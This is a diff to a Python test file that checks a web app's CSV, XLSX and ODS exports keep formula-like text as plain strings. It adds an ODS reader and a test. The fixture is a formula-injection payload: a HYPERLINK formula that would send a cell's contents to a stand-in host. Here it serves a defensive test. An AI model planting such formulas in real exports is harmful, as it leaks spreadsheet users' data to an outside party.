@@ -1,4 +1,4 @@
-"""Text that a spreadsheet would run as a formula stays text in every CSV and XLSX export."""
+"""Text that a spreadsheet would run as a formula stays text in every CSV, XLSX and ODS export."""
 
 import csv
 import io
@@ -8,7 +8,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from accounts.roles import Role
-from edge.tables import csv_bytes, xlsx_bytes
+from edge.tables import Heading, csv_bytes, ods_bytes, xlsx_bytes
 from tests.factories import IdeaFactory, UserFactory
 
 ATTACK = '=HYPERLINK("https://boese.example/?d="&A1;"Details")'
@@ -29,6 +29,33 @@ def test_xlsx_keeps_the_text_and_stores_it_as_a_string_not_a_formula():
     cell = sheet["A2"]
     assert cell.value == ATTACK
     assert cell.data_type == "s"
+
+
+def ods_rows(content: bytes) -> list[list[tuple[str, str]]]:
+    """(value type, text) of every cell of the first sheet, read back with odfpy."""
+    from odf import teletype
+    from odf.opendocument import load
+    from odf.table import Table, TableCell, TableRow
+    from odf.text import P
+
+    sheet = load(io.BytesIO(content)).spreadsheet.getElementsByType(Table)[0]
+    return [
+        [(cell.getAttribute("valuetype") or "", "\n".join(teletype.extractText(p) for p in cell.getElementsByType(P)))
+         for cell in row.getElementsByType(TableCell)]
+        for row in sheet.getElementsByType(TableRow)
+    ]  # fmt: skip
+
+
+def test_ods_keeps_text_as_string_numbers_as_numbers_and_line_breaks():
+    content = ods_bytes(["titel", "zahl"], [[ATTACK, -3], Heading("Gruppe"), ["zwei\nZeilen\x07", 2.5]], title="t",
+                        widths=[40, 10], wrap=[1])  # fmt: skip
+    assert content[:2] == b"PK"
+    rows = ods_rows(content)
+    assert rows[0] == [("string", "titel"), ("string", "zahl")]
+    assert rows[1] == [("string", ATTACK), ("float", "-3")]
+    assert rows[2] == [("string", "Gruppe")]
+    assert rows[3] == [("string", "zwei\nZeilen"), ("float", "2.5")]  # the control character is dropped
+    assert b"table:formula" not in content
 
 
 def test_gis_csv_export_neutralises_formulas(client, db, tmp_path):
